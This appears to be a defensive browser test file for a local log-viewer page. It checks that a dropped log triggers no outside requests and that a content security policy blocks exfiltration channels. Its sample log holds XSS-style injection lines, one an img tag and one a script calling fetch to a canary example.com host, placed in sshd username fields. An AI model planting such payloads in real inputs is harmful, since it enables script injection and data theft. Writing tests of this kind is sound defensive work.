// Words that stand in every field of a log never leave the page.

import test from 'node:test';
import assert from 'node:assert/strict';

import { begin } from '../lib/begin.mjs';
import { drop, open } from '../lib/chromium.mjs';

const { browser, list, asked } = await begin();

const CANARY = 'canary7f3a';
const LOG = [
  `Dec 10 06:55:46 ${CANARY}host sshd[24200]: Invalid user ${CANARY}user from 203.0.113.9`,
  `Dec 10 06:55:48 ${CANARY}host sshd[24200]: Failed password for invalid user ${CANARY}user from 203.0.113.9 port 38926 ssh2`,
  `Dec 10 06:56:00 ${CANARY}host ${CANARY}program[1]: ${CANARY} message from ${CANARY}.example.com`,
  `${CANARY}.example.com - ${CANARY} [10/Dec/2025:06:56:01 +0900] "GET /${CANARY}?q=${CANARY} HTTP/1.1" 404 10 "http://${CANARY}.example.com/" "${CANARY}"`,
  `Dec 10 06:57:00 ${CANARY}host sshd[24201]: Invalid user <img src="http://${CANARY}.example.com/x.png"> from 203.0.113.9`,
  `Dec 10 06:57:01 ${CANARY}host sshd[24202]: Invalid user <script>fetch('http://${CANARY}.example.com')</script> from 203.0.113.9`,
].join('\n');

for (const [place, address] of list) {
  test(`${place}: nothing is asked for but the page itself`, async () => {
    const { context, page, seen } = await open(browser, address, { serviceWorkers: 'allow' });
    const report = await drop(page, [{ name: `${CANARY}.log`, text: LOG }]);
    assert.ok(report.includes(`${CANARY}user`), 'the log was read');
    await everything(page);
    const beside = place === 'http' ? ['sw.js', 'manifest.webmanifest'] : [];
    const own = [address, ...beside.map((name) => new URL(name, address).href)];
    const outside = seen.requests.filter((url) => !own.includes(url) && !url.startsWith('blob:'));
    assert.deepEqual(outside, []);
    assert.deepEqual(asked.filter((url) => !['/', '/favicon.ico', '/sw.js', '/manifest.webmanifest'].includes(url)), []);
    assert.deepEqual([seen.errors, seen.broken], [[], []]);
    await context.close();
  });

  test(`${place}: the page itself cannot send either`, async () => {
    const { context, page, seen } = await open(browser, address);
    await page.evaluate(async (canary) => {
      await fetch(`http://127.0.0.1:9/${canary}`).catch(() => {});
      new Image().src = `http://127.0.0.1:9/${canary}`;
      navigator.sendBeacon(`http://127.0.0.1:9/${canary}`);
      try { new WebSocket(`ws://127.0.0.1:9/${canary}`); } catch {}
      try { new Worker(`http://127.0.0.1:9/${canary}`); } catch {}
    }, CANARY);
    await page.waitForTimeout(200);
    assert.equal(await page.evaluate(() => typeof RTCPeerConnection), 'undefined');
    assert.ok(seen.broken.some((rule) => rule.startsWith('connect-src')), 'the policy is in force');
    assert.deepEqual(asked.filter((url) => url.includes(CANARY)), []);
    await context.close();
  });
}

/** Touches whatever can be touched. */
async function everything(page) {
  for (const action of ['evidence', 'sort', 'section', 'fold', 'lang', 'theme']) {
    for (const button of (await page.$$(`[data-action=${action}]`)).slice(0, 8)) {
      await button.click({ timeout: 1000 }).catch(() => {});
    }
  }
  await page.waitForTimeout(300);
}
